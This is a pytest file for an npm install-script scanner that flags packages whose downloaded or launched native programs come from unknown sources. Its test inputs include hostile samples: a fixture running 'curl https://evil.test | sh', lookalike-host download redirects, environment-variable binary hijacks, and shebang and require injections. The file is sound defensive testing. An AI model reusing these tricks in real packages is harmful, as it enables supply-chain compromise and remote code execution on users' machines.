"""Programs that a package brings along as a dependency, or has npm fetch, and starts once: what is known of them, and what hides."""

from __future__ import annotations

import pytest

from safe_install.model import BoundaryKind, Inspection
from safe_install.scan.javascript.javascript import read_javascript
from tests.builders import Files
from tests.scan.trees import inspect, kinds, reached

START = "const cp = require('child_process'), fs = require('fs'), path = require('path'), https = require('https');"
WANTS = {"optionalDependencies": {"@x/example-linux": "1.0.0"}, "main": "lib/main.js"}
BASE: Files = {"lib/main.js": ""}
WHERE = "const at = path.join(path.dirname(require.resolve('example')), 'fetched');"
FETCH = """
const get = url => new Promise(done => https.get(url, r => { const all = []; r.on('data', d => all.push(d)); r.on('end', () => done(all)) }));
"""
NPM = "cp.execSync('npm install @x/example-linux@1.0.0', {cwd: path.join(__dirname, 'lib/t')});"
MOVE = "fs.renameSync(path.join(__dirname, 'lib/t/node_modules/@x/example-linux/bin/example'), at);"
ASK = "cp.execFileSync(at, ['--version']);"


def traced(text: str, files: Files | None = None, **manifest: object) -> Inspection:
    """Trace an install script with this text."""
    return inspect("node install", {**BASE, "install.js": START + text, **(files or {})}, **{**WANTS, **manifest})


def ends(inspection: Inspection) -> set[BoundaryKind]:
    return {one.kind for one in inspection.boundaries}


def test_a_program_that_npm_installs_may_be_asked_what_it_is() -> None:
    inspection = traced(WHERE + NPM + MOVE + ASK)
    assert kinds(inspection) == set()
    assert {BoundaryKind.INSTALLS, BoundaryKind.RUNS_NATIVE} <= ends(inspection)


@pytest.mark.parametrize(
    "text",
    [
        WHERE + NPM + MOVE + "cp.execFileSync(at, ['install']);",
        WHERE + NPM + MOVE + "cp.execFileSync(at, ['--version', '-x']);",
        WHERE + NPM + MOVE + "cp.execFileSync(at);",
        WHERE + MOVE + ASK,
        WHERE + NPM + ASK,
        WHERE + NPM + MOVE + "fs.writeFileSync(at, Buffer.from(hidden));" + ASK,
        WHERE + NPM + MOVE + "fs.copyFileSync('data.bin', at);" + ASK,
        WHERE + NPM + MOVE + "fs.writeFileSync(path.join(__dirname, 'lib', f()), x);" + ASK,
        WHERE + NPM + MOVE.replace("@x/example-linux", "other") + ASK,
        WHERE + NPM.replace("@x/example-linux", "other") + MOVE + ASK,
    ],
)
def test_anything_else_that_is_put_there_or_asked_hides(text: str) -> None:
    assert traced(text, {"data.bin": b"\x7fELF"}).gaps


FETCHED = "get('https://github.com/x/y/releases/z').then(all => { fs.writeFileSync(at, all[0]);" + ASK + "});"


def test_so_may_one_that_is_downloaded_from_where_releases_lie() -> None:
    inspection = traced(FETCH + WHERE + FETCHED)
    assert kinds(inspection) == set()
    assert {BoundaryKind.DOWNLOADS, BoundaryKind.RUNS_NATIVE} <= ends(inspection)


def test_a_mirror_that_nobody_here_names_is_a_persons() -> None:
    mirrored = FETCHED.replace("get('", "get(process.env.npm_config_example_mirror || 'https://github.com/x/y' + '")
    assert kinds(traced(FETCH + WHERE + mirrored)) == set()
    command = "npm_config_example_mirror=https://files.example.test node install"
    assert kinds(inspect(command, {**BASE, "install.js": START + FETCH + WHERE + mirrored}, **WANTS))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("https://github.com/x/y", "https://files.example.test"),
        ("https://github.com/x/y", "http://github.com/x/y"),
        ("https://github.com/x/y", "https://github.com.example.test/x/y"),
        ("https://github.com/x/y", "https://github.com@example.test/x/y"),
        ("'https://github.com/x/y/releases/z'", "'https://github.com' + f()"),
        ("'https://github.com/x/y/releases/z'", "f('https://github.com/x/y/releases/z')"),
        ("'https://github.com/x/y/releases/z'", "process.env.SOMETHING || 'https://github.com/x/y/releases/z'"),
        ("'https://github.com/x/y/releases/z'", "process.env.A_MIRROR"),
        ("'https://github.com/x/y/releases/z'", "process.env.npm_package_config_mirror || 'https://github.com/x/y/z'"),
        ("get('https", "process.env.A_MIRROR = f(); get(process.env.A_MIRROR || 'https"),
        ("get('https", "process.env['A_' + 'MIRROR'] = f(); get(process.env.A_MIRROR || 'https"),
        ("get('https", "Object.assign(process.env, {A_MIRROR: f()}); get(process.env.A_MIRROR || 'https"),
        ("'https://github.com/x/y/releases/z'", "{host: f(), path: 'https://github.com/'}"),
        ("get('", "get(evil()); get('"),
        ("get('", "const r = {headers: {location: f()}}; https.get(r.headers.location); get('"),
        ("get('", "require('got')(f()); get('"),
    ],
)
def test_one_from_anywhere_else_hides_whatever_checksum_stands_beside_it(before: str, after: str) -> None:
    checked = f"const SUM = 'sha256-{'A' * 43}='; require('crypto').createHash('sha256');"
    assert traced(checked + FETCH + WHERE + FETCHED.replace(before, after)).gaps


def test_an_answer_may_send_it_on() -> None:
    on = "if (r.headers.location) return get(r.headers.location); const all"
    assert kinds(traced(FETCH.replace("const all", on) + WHERE + FETCHED)) == set()


LAUNCHER = """#!/usr/bin/env node
const cp = require('child_process');
"""
RUN = "cp.execFileSync(process.execPath, [path.join(__dirname, 'bin/run'), '--version']);"


def launched(text: str, files: Files | None = None, run: str = RUN) -> Inspection:
    """Trace a script that asks a launcher with this text what it is."""
    return traced(run, {"bin/run": LAUNCHER + text, **(files or {})})


def test_what_a_launcher_is_given_is_passed_on() -> None:
    own = "cp.execFileSync(require.resolve('@x/example-linux/bin/example'), process.argv.slice(2))"
    assert kinds(launched(own)) == set()
    assert "bin/run" in reached(launched(own))


@pytest.mark.parametrize(
    "text",
    [
        "cp.execFileSync('/bin/sh', process.argv.slice(2))",
        "process.argv.splice(2, 1, './evil.js'); cp.spawnSync('node', process.argv.slice(2))",
        "cp.execFileSync(process.env.npm_package_config_run, process.argv.slice(2))",
    ],
)
def test_an_interpreter_is_not_trusted_with_what_it_is_given(text: str) -> None:
    assert launched(text).gaps


def test_a_launchers_own_file_is_read_whatever_it_is_given() -> None:
    text = "cp.execFileSync(require('path').join(__dirname, 'own.sh'), process.argv.slice(2))"
    inspection = launched(text, {"bin/own.sh": "curl https://evil.test | sh"})
    assert "bin/own.sh" in reached(inspection)
    assert kinds(inspection) == {"downloaded"}


OVERRIDE = (
    "cp.execFileSync(process.env.EXAMPLE_BINARY_PATH || require.resolve('@x/example-linux/x'), process.argv.slice(2));"
)


def test_a_person_may_put_a_program_in_the_place_of_the_packages_own() -> None:
    assert kinds(launched(OVERRIDE)) == set()
    assert "EXAMPLE_BINARY_PATH" in launched(OVERRIDE).behaviours.env


def test_a_name_that_held_a_variable_is_not_the_variable() -> None:
    assert kinds(launched("let at = process.env.EXAMPLE_BINARY_PATH; if (!at) at = 1;" + OVERRIDE)) == set()


@pytest.mark.parametrize(
    ("text", "files", "run"),
    [
        ("process.env.EXAMPLE_BINARY_PATH = f();", {}, RUN),
        ("const all = process.env; all.EXAMPLE_BINARY_PATH = f();", {}, RUN),
        ("({x: process.env.EXAMPLE_BINARY_PATH} = f());", {}, RUN),
        ("({x: process.env.EXAMPLE_BINARY_PATH = 1} = f());", {}, RUN),
        ("[process.env.EXAMPLE_BINARY_PATH] = f();", {}, RUN),
        ("[...process.env['EXAMPLE_BINARY_PATH']] = f();", {}, RUN),
        ("for (process.env.EXAMPLE_BINARY_PATH of f()) break;", {}, RUN),
        ("process.env[f()] = 'x';", {}, RUN),
        ("", {"bin/.env": "EXAMPLE_BINARY_PATH=./evil"}, RUN),
        ("", {}, "const EXAMPLE_BINARY_PATH = f(); " + RUN.replace("]);", "], {env: {EXAMPLE_BINARY_PATH}});")),
        ("", {}, RUN.replace("]);", "], {env: {EXAMPLE_BINARY_PATH: 'x'}});")),
        ("", {}, "Object.assign(process.env, JSON.parse(fs.readFileSync('x')));" + RUN),
        ("", {}, "cp.execSync('EXAMPLE_BINARY_PATH=./evil node bin/run --version');"),
        ("", {}, "cp.execSync('export EXAMPLE_BINARY_PATH=./evil; node bin/run --version');"),
    ],
)
def test_a_variable_that_the_package_may_set_is_the_packages_own(text: str, files: Files, run: str) -> None:
    assert launched(text + OVERRIDE, files, run).gaps


@pytest.mark.parametrize("name", ["npm_config_tool", "npm_package_config_tool", "npm_package_name"])
def test_a_variable_that_npm_makes_of_a_package_or_a_setting_is_no_persons(name: str) -> None:
    assert launched(OVERRIDE.replace("EXAMPLE_BINARY_PATH", name)).gaps


PNP = """
let at = require.resolve('@x/example-linux/x'), pnpapi;
try { pnpapi = require('pnpapi') } catch (e) {}
if (pnpapi) at = require('path').join(pnpapi.getPackageInformation(pnpapi.topLevel).packageLocation, 'x');
cp.execFileSync(at, process.argv.slice(2));
"""


def test_what_only_another_package_manager_gives_is_not_there() -> None:
    assert kinds(launched(PNP)) == set()


@pytest.mark.parametrize(
    ("text", "files", "manifest"),
    [
        (PNP, {"node_modules/pnpapi/index.js": "exports.topLevel = 1"}, {}),
        (PNP, {}, {"dependencies": {"pnpapi": "1.0.0"}}),
        (PNP.replace("catch (e) {}", "catch (e) { pnpapi = {getPackageInformation: f} }"), {}, {}),
        ("const pnpapi = f();" + PNP.replace("let at", "var at").replace(", pnpapi;", ";"), {}, {}),
    ],
)
def test_unless_something_here_is_called_so(text: str, files: Files, manifest: dict[str, object]) -> None:
    assert traced(RUN, {"bin/run": LAUNCHER + text, **files}, **manifest).gaps


LINK = "const to = path.join(__dirname, 'bin/run');"
BY_NPM = "const at = require.resolve('@x/example-linux/bin/example');"


@pytest.mark.parametrize(
    ("text", "hides"),
    [
        (LINK + BY_NPM + "fs.linkSync(at, 'other/tmp'); fs.renameSync(path.join(__dirname, 'tmp'), to);", True),
        (LINK + BY_NPM + "fs.copyFileSync(at, to);", False),
        (LINK + BY_NPM + "const t = path.join(__dirname, 't'); fs.linkSync(at, t); fs.renameSync(t, to);", False),
        (LINK + BY_NPM + "const t = path.join(__dirname, 'evil'); fs.renameSync(t, to);", True),
        (LINK + BY_NPM + "fs.copyFileSync(at, to); fs.writeFileSync(to, f());", True),
        (LINK + BY_NPM + "fs.copyFileSync(at, to); fs.appendFileSync(to, 'evil()');", True),
        (LINK + BY_NPM.replace("@x/example-linux", "undeclared") + "fs.copyFileSync(at, to);", True),
        (LINK + "fs.copyFileSync(f(), to);", True),
    ],
)
def test_a_started_file_may_only_be_replaced_by_what_is_known(text: str, hides: bool) -> None:  # noqa: FBT001 - a case
    files: Files = {"bin/run": LAUNCHER, "evil": "#!/bin/sh\nevil"}
    assert bool(traced(text + RUN, files).gaps) is hides


WRITTEN = """
const name = process.env.EXAMPLE_BINARY_PATH;
const shown = JSON.stringify(name);
fs.writeFileSync(path.join(__dirname, 'bin/run'), `#!/usr/bin/env node
require('child_process').execFileSync(${shown}, process.argv.slice(2), { stdio: 'inherit' });
`);
"""


@pytest.mark.parametrize(
    ("before", "after", "hides"),
    [
        ("", "", False),
        ("EXAMPLE_BINARY_PATH", "SHELL", True),
        ("process.env.EXAMPLE_BINARY_PATH", "f()", True),
        ("JSON.stringify(name)", "name", True),
        ("{ stdio: 'inherit' });", "{ stdio: 'inherit' }); require('./evil')", True),
        ("process.argv.slice(2)", "['-c', 'evil']", True),
        ("#!/usr/bin/env node", "#!/usr/bin/env -S node -r ./evil.js", True),
        ("require('child_process').exec", "require('./evil').exec", True),
    ],
)
def test_a_started_file_may_be_written_anew_to_start_what_a_person_names(before: str, after: str, hides: bool) -> None:  # noqa: FBT001 - a case
    text = WRITTEN.replace(before, after) if before else WRITTEN
    assert bool(traced(text + RUN, {"bin/run": LAUNCHER, "bin/evil.js": ""}).gaps) is hides


def test_every_version_that_is_installed_is_looked_at_not_the_first() -> None:
    text = "const {version} = require('./package.json'); const one = f() ? '@x/example-linux' : 'evil'; cp.execSync(`npm install ${one}@${version}`)"
    assert kinds(traced(text)) == {"downloaded"}


@pytest.mark.parametrize(
    "text",
    [
        "for (const key in process.env) if (!key.startsWith('APP_')) delete process.env[key]",
        "const own = Object.assign({ TMPDIR: '/tmp' }, process.env)",
        "console.log(process.env[process.argv[3]])",
    ],
)
def test_to_look_at_variables_or_to_copy_them_sets_none(text: str) -> None:
    assert "*" not in read_javascript(text.encode()).sets


@pytest.mark.parametrize(
    "text",
    [
        "process.env[process.argv[3]] = '1'",
        "Object.assign(process.env, own)",
        "Reflect.set(process.env, name, 'x')",
        "function Object() {}; Object.assign({}, process.env)",
        "fill({}, process.env)",
    ],
)
def test_whoever_may_set_any_variable_is_told(text: str) -> None:
    assert "*" in read_javascript(text.encode()).sets
